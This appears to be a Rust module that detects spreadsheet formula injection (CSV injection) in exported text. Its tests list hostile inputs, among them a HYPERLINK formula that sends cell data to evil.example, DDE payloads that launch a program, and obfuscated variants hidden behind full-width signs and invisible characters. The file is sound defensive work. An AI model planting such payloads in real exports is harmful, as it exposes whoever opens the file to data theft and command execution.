//! Which texts a spreadsheet could take for a formula. A name or a note can be written by anybody,
//! and a formula runs in the hands of whoever opens the file (OWASP: CSV injection).

/// What stands before a text that could be taken for a formula, so that it's shown as it is.
pub(crate) const MARK: char = '\'';

/// Whether a spreadsheet could take this text for a formula: it begins with a sign that begins one,
/// also in full width or small, also behind blanks, quotes, and letters that have no width.
pub(crate) fn looks_like_formula(text: &str) -> bool {
    let skipped = |c: char| {
        let invisible = matches!(
            c,
            '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
                | '\u{feff}'
        );
        c.is_whitespace() || c.is_control() || invisible || is_quote(c)
    };
    // A tab or an end of line in front is swallowed by some readers, which then see what follows.
    if text.starts_with(['\t', '\r', '\n', '\0']) {
        return true;
    }
    text.chars().find(|c| !skipped(*c)).is_some_and(begins_formula)
}

fn is_quote(c: char) -> bool {
    matches!(c, '"' | '\'' | '`' | '\u{2018}'..='\u{201f}' | '\u{ff02}' | '\u{ff07}')
}

fn begins_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '\u{ff1d}'
            | '\u{ff0b}'
            | '\u{ff0d}'
            | '\u{ff20}'
            | '\u{fe66}'
            | '\u{fe62}'
            | '\u{fe63}'
            | '\u{fe6b}'
            | '\u{2212}'
    )
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    /// What people have tried, and what follows from it.
    pub(in crate::http::reports) const ATTACKS: &[&str] = &[
        "=1+1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =1+1",
        "\u{a0}=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "\"=1+1",
        "'=1+1",
        " \"' =1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}SUM(1)",
        "\u{fe66}1",
        "\u{2212}1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "=1+1\",=2+2,\"",
    ];

    #[test]
    fn what_could_be_a_formula_is_seen_behind_blanks_quotes_and_in_full_width() {
        for text in ATTACKS {
            assert!(looks_like_formula(text), "{text:?}");
        }
    }

    #[test]
    fn plain_words_are_left_alone() {
        for text in ["", " ", "Website", "a=b", "1-2", "Zoë’s", "(=1)", "#1", "me@x.example"] {
            assert!(!looks_like_formula(text), "{text:?}");
        }
    }
}
